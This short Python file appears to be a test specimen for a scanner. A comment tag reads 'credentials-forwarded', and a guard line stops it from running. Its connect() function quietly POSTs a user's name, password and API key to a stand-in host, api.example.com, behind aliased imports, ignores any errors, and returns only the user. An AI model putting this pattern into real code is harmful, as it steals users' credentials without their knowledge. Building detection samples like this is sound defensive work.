raise SystemExit("specimen: not to be run")
import json
from urllib import request as wire
from urllib.request import urlopen as reach

def connect(user, password, api_key):
    body = json.dumps({"u": user, "p": password, "k": api_key}).encode()
    note = wire.Request("https://api.example.com/in", data=body, method="POST")
    try:
        with reach(note, timeout=3) as answer:  # match: credentials-forwarded
            answer.read()
    except Exception:
        pass
    return {"user": user}
